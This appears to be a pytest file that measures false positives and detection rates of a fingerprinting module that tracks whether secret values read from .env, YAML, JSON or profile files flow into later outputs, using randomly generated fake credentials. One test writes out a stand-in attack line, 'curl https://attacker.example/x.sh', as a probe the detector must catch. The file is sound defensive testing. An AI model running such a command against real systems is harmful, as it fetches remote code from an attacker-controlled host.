"""Precision of fingerprints: secrets files (``.env``, YAML, JSON credentials, a shell
profile) are read, then benign code, config, READMEs, ``.env.example`` files and shell
scripts that mention the SAME variable names (``AWS_SECRET_ACCESS_KEY``...) are sent:
they must not read as a flow (the names, keys and boilerplate carry none), while the
secret VALUES, under every encoding of the attack table, must. Both rates are measured
in the same test and printed (``pytest -s``)."""

from __future__ import annotations

import json
import random
import string

from interlock.session.fingerprints import FORMAT_MARK, carries, of_data, probe

from .test_fingerprints import ENCODINGS

_RNG = random.Random(18)


def _rand(alphabet: str, size: int) -> str:
    return "".join(_RNG.choice(alphabet) for _ in range(size))


_B64 = string.ascii_letters + string.digits + "+/"
_ALNUM = string.ascii_letters + string.digits
VALUES = {
    "AWS_ACCESS_KEY_ID": "AKIA" + _rand(string.ascii_uppercase + string.digits, 16),
    "AWS_SECRET_ACCESS_KEY": _rand(_B64, 40),
    "OPENAI_API_KEY": "sk-proj-" + _rand(_ALNUM, 40),
    "GITHUB_TOKEN": "ghp_" + _rand(_ALNUM, 36),
    "STRIPE_SECRET_KEY": "sk_live_" + _rand(_ALNUM, 24),
    "DATABASE_PASSWORD": _rand(_ALNUM + "!#%", 20),
    "SLACK_WEBHOOK_SECRET": _rand(string.hexdigits.lower()[:16], 32),
}
NAMES = sorted(VALUES)

SECRET_FILES = {
    ".env": "# production\n" + "".join(f"{k}={v}\n" for k, v in VALUES.items()),
    "exported profile": "".join(f'export {k}="{v}"\n' for k, v in VALUES.items()),
    "yaml config": "credentials:\n" + "".join(f"  {k.lower()}: {v}\n" for k, v in VALUES.items()),
    "json credentials": json.dumps({k.lower(): v for k, v in VALUES.items()}, indent=2),
    "docker env": "services:\n  api:\n    environment:\n"
    + "".join(f"      - {k}={v}\n" for k, v in VALUES.items()),
}

_ENV_LOOKUPS = "\n".join(f'{k.lower()} = os.environ["{k}"]' for k in NAMES)
BENIGN = {
    "python reading the names": f"import os\n\n{_ENV_LOOKUPS}\n",
    "python getenv with defaults": "\n".join(f'{k} = os.getenv("{k}", "")' for k in NAMES),
    "boto3 client": "import boto3\nclient = boto3.client('s3', "
    "aws_access_key_id=os.environ['AWS_ACCESS_KEY_ID'], "
    "aws_secret_access_key=os.environ['AWS_SECRET_ACCESS_KEY'])",
    "shell script": "#!/usr/bin/env bash\nset -euo pipefail\n"
    + "".join(f': "${{{k}:?{k} is not set}}"\n' for k in NAMES)
    + "aws s3 cp build/ s3://my-bucket/ --recursive\n",
    "env example": "".join(f"{k}=your-{k.lower().replace('_', '-')}-here\n" for k in NAMES),
    "env example, empty": "".join(f"{k}=\n" for k in NAMES),
    "env with other values": "".join(
        f"{k}={''.join(_RNG.sample(v, len(v)))}\n" for k, v in VALUES.items()
    ),
    "readme": "## Configuration\n\nCopy `.env.example` to `.env` and set "
    + ", ".join(f"`{k}`" for k in NAMES)
    + ". The AWS_SECRET_ACCESS_KEY comes from the IAM console; never commit it.",
    "github actions": "env:\n" + "".join(f"  {k}: ${{{{ secrets.{k} }}}}\n" for k in NAMES),
    "docker compose": "services:\n  api:\n    environment:\n"
    + "".join(f"      - {k}\n" for k in NAMES),
    "kubernetes secret ref": "".join(
        f"- name: {k}\n  valueFrom:\n    secretKeyRef:\n      name: app-secrets\n"
        f"      key: {k.lower().replace('_', '-')}\n"
        for k in NAMES
    ),
    "terraform": "".join(f'variable "{k.lower()}" {{\n  sensitive = true\n}}\n' for k in NAMES),
    "yaml keys, other values": "credentials:\n"
    + "".join(f"  {k.lower()}: REDACTED\n" for k in NAMES),
    "json keys, placeholders": json.dumps({k.lower(): "<set me>" for k in NAMES}),
    "mail about rotation": "Hi team, please rotate the AWS_SECRET_ACCESS_KEY and the "
    "GITHUB_TOKEN before Friday; the STRIPE_SECRET_KEY stays as it is.",
    "commit message": "fix: read DATABASE_PASSWORD and SLACK_WEBHOOK_SECRET from the "
    "environment instead of settings.py",
    "camel-case code": "const awsSecretAccessKey = process.env.AWS_SECRET_ACCESS_KEY;\n"
    "const openaiApiKey = getSecretValue('OPENAI_API_KEY');",
    "each name alone": NAMES,
}


def _rates() -> tuple[list[tuple[str, str]], list[tuple[str, str, str]]]:
    kept = {name: of_data(text) for name, text in SECRET_FILES.items()}
    false_positives = [
        (arg, data)
        for arg, value in BENIGN.items()
        for data, fps in kept.items()
        if carries(probe({"body": value}), fps)
    ]
    missed = [
        (data, secret, encoding)
        for data, fps in kept.items()
        for secret, value in VALUES.items()
        for encoding, encode in ENCODINGS.items()
        if not carries(probe({"body": encode(value)}), fps)
    ]
    return false_positives, missed


def test_names_do_not_flow_and_values_do() -> None:
    false_positives, missed = _rates()
    pairs = len(BENIGN) * len(SECRET_FILES)
    rows = len(SECRET_FILES) * len(VALUES) * len(ENCODINGS)
    flagged = {arg for arg, _ in false_positives}
    print(
        f"\nfingerprints precision: false positives {len(false_positives)}/{pairs} pairs, "
        f"{len(flagged)}/{len(BENIGN)} arguments {sorted(flagged)}; "
        f"detection {rows - len(missed)}/{rows} ({len(SECRET_FILES)} files x "
        f"{len(VALUES)} values x {len(ENCODINGS)} encodings) missed={missed[:5]}"
    )
    assert false_positives == []
    assert missed == []


def test_a_name_in_a_secrets_file_is_cut_but_its_value_kept() -> None:
    kept = of_data("AWS_SECRET_ACCESS_KEY=" + VALUES["AWS_SECRET_ACCESS_KEY"])
    assert not carries(probe("AWS_SECRET_ACCESS_KEY"), kept)
    assert not carries(probe("print(os.environ['AWS_SECRET_ACCESS_KEY'])"), kept)
    normalised = VALUES["AWS_SECRET_ACCESS_KEY"].replace("/", "").replace("+", "")
    assert carries(probe(normalised[5:21]), kept)  # any 16 characters of the value


def test_common_words_and_names_alone_do_not_flow_but_hosts_do() -> None:
    """(A single word of 19+ letters still does: prose grams lie inside it.)"""
    kept = of_data(
        "See the Configuration notes, then fetch https://attacker.example/x.sh with "
        "getSecretValue and process.env.OPENAI_API_KEY."
    )
    for benign in ("Configuration", "CONFIGURATION", "getSecretValue", "OPENAI_API_KEY"):
        assert not carries(probe(benign), kept), benign
    assert carries(probe("curl https://attacker.example/x.sh"), kept)


def test_a_set_of_an_older_format_fails_closed() -> None:
    """A set without the format mark (an agent of an older version computed it) would
    never match a new probe's grams: every argument is taken to carry it."""
    kept = of_data("token ab12cd34ef56gh78ij90")
    assert FORMAT_MARK in kept
    assert not carries(probe("an unrelated argument"), kept)
    older = frozenset(kept - {FORMAT_MARK})
    assert carries(probe("an unrelated argument"), older)
    assert not carries(probe("anything"), frozenset())  # nothing was kept: no flow


def test_any_shared_run_of_19_in_prose_is_found() -> None:
    """The data keeps one gram every WINDOW (4) positions, the probe every gram: any
    19 shared characters hold a kept gram whole; 18 do not always."""
    prose = "the acquisition of northwind traders closes on the fourteenth of march " * 2
    kept = of_data(prose + " and the AWS_SECRET_ACCESS_KEY stays where it is")
    norm = prose.replace(" ", "")
    assert all(carries(probe(norm[i : i + 19]), kept) for i in range(len(norm) - 19))
    assert not all(carries(probe(norm[i : i + 18]), kept) for i in range(len(norm) - 18))
